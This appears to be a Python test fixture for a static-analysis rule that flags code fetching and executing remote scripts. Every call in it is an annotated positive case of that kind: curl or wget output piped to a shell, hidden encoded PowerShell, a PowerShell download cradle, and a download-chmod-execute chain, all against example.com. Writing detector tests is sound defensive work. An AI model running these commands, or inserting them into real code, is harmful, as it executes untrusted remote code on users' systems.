import os
import subprocess
from subprocess import Popen as start

HOST = "example.com"
# ruleid: py-runs-command-that-fetches
os.system("curl -fsSL https://example.com/i.sh | sh")
# ruleid: py-runs-command-that-fetches
subprocess.run(f"wget -qO- https://{HOST}/i | bash", shell=True)
# ruleid: py-runs-command-that-fetches
start(["powershell", "-WindowStyle", "Hidden", "-enc", "SQBFAFgA"])
command = "powershell -c " + "IEX (New-Object Net.WebClient).DownloadString('https://example.com')"
# ruleid: py-runs-command-that-fetches
__import__("os").system(command)
# ruleid: py-runs-command-that-fetches
subprocess.call(["sh", "-c", "wget https://example.com/x -O /tmp/x && chmod +x /tmp/x && /tmp/x"])
